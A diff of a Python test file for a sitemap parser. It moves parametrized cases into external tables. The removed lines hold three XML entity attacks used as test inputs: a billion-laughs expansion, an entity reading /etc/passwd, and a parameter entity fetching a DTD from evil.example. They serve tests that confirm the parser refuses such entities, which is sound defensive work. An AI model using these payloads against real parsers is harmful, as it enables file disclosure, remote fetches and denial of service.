@@ -10,6 +10,7 @@ from hypothesis import strategies as st
 
 from scrapy_dedup.core.sitemaps import Entry, SitemapLimits, parse_lastmod, read_sitemap
 from tests.growth import assert_in_proportion
+from tests.tables import table
 
 FOLDER = Path(__file__).parents[1] / "data" / "sitemaps"
 EXPECTED = json.loads((FOLDER / "expected.json").read_text(encoding="utf-8"))
@@ -78,14 +79,7 @@ def test_file_that_ends_early_is_read_up_to_there() -> None:
     assert found.error == "unclosed token: line 1, column 82"
 
 
-@pytest.mark.parametrize(
-    "declaration",
-    [
-        pytest.param('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">', id="billion-laughs"),
-        pytest.param('<!ENTITY a SYSTEM "file:///etc/passwd">', id="file"),
-        pytest.param('<!ENTITY % a SYSTEM "http://evil.example/x.dtd">', id="parameter"),
-    ],
-)
+@table("core/entities_end_the_reading")
 def test_entities_end_the_reading(declaration: str) -> None:
     body = f"<!DOCTYPE urlset [{declaration}]>".encode() + sitemap(page("&a;"))
 
@@ -101,16 +95,9 @@ def test_document_type_without_entities_is_read() -> None:
     assert len(read_sitemap(body, URL).pages) == 1
 
 
-@pytest.mark.parametrize(
-    "limits",
-    [
-        pytest.param(SitemapLimits(entries=2), id="entries"),
-        pytest.param(SitemapLimits(elements=5), id="elements"),
-        pytest.param(SitemapLimits(bytes=130), id="bytes"),
-    ],
-)
-def test_limits_cut(limits: SitemapLimits) -> None:
-    found = read_sitemap(sitemap(page("a"), page("b"), page("c")), URL, limits)
+@table("core/limits_cut")
+def test_limits_cut(limits: dict[str, int]) -> None:
+    found = read_sitemap(sitemap(page("a"), page("b"), page("c")), URL, SitemapLimits(**limits))
 
     assert [entry.url for entry in found.pages] == ["https://example.com/a", "https://example.com/b"]
     assert found.truncated
